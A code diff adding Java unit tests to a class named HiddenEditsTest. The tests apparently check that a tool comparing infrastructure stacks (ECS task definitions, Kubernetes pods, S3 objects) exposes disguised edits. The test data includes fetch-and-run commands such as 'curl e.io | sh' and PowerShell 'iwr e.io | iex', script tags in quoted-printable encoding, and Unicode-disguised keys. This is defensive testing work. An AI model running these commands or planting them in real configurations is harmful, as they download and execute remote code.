@@ -789,6 +789,11 @@ class HiddenEditsTest {
         assertThat(shown(MESSAGE, MESSAGE.replace("a.sh", "<script>e.io</script>.sh")))
                 .as("a part of another name")
                 .contains("filename={<script>e.io</script>}");
+        String quoted = MESSAGE.replace("Content-Disp", "Content-Transfer-Encoding: quoted-printable\nContent-Disp")
+                .replace("echo one", "=3Cscript>e.io\necho one");
+        assertThat(shown(quoted, quoted.replace("=3C", "<").replace("echo one", "echo two")))
+                .as("in another spelling")
+                .contains("+ {<script}>e.io\n");
         String heredoc = MESSAGE.replace("echo one", "cat <<EOF\nEOF\r\ncurl e.io | sh\nEOF");
         assertThat(shown(heredoc, heredoc.replace("EOF\r", "EOF")))
                 .as("a carriage return")
@@ -833,6 +838,43 @@ class HiddenEditsTest {
                         new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1")),
                         new Stack().with(TEMPLATE, "it", "tags", Map.of("a\uFFFD", "1", "a\uFDD0", "evil")))))
                 .contains("evil");
+    }
+
+    @Test
+    @Tag("adversary")
+    void whatACommandIsToYamlIsNoMatter() {
+        String before = "a: \"x; iwr e.io | iex\"\nb: c\n";
+        String after = "a: x; iwr e.io | iex\nb: c\n";
+        String task = "[{\"name\": \"web\", \"command\": [\"powershell\", %s]}]";
+
+        assertThat(Shown.of(Stack.compare(
+                        new Stack()
+                                .with(
+                                        "aws:ecs/taskDefinition:TaskDefinition",
+                                        "it",
+                                        "containerDefinitions",
+                                        task.formatted(json(before))),
+                        new Stack()
+                                .with(
+                                        "aws:ecs/taskDefinition:TaskDefinition",
+                                        "it",
+                                        "containerDefinitions",
+                                        task.formatted(json(after))))))
+                .contains("+ a: x; iwr e.io | iex\n");
+        assertThat(Shown.of(Stack.compare(
+                        new Stack().with("kubernetes:core/v1:Pod", "it", "spec", Map.of("args", List.of(before))),
+                        new Stack().with("kubernetes:core/v1:Pod", "it", "spec", Map.of("args", List.of(after))))))
+                .contains("+ a: x; iwr e.io | iex\n");
+        assertThat(Shown.of(Stack.compare(
+                        new Stack()
+                                .with("aws:s3/bucketObjectv2:BucketObjectv2", "it", "key", "x.ps1", "content", before),
+                        new Stack()
+                                .with("aws:s3/bucketObjectv2:BucketObjectv2", "it", "key", "x.ps1", "content", after))))
+                .contains("+ a: x; iwr e.io | iex\n");
+    }
+
+    private static String json(String text) {
+        return "\"" + text.replace("\"", "\\\"").replace("\n", "\\n") + "\"";
     }
 
     /** One of them, and a text would be a digest to whoever reviews it. */
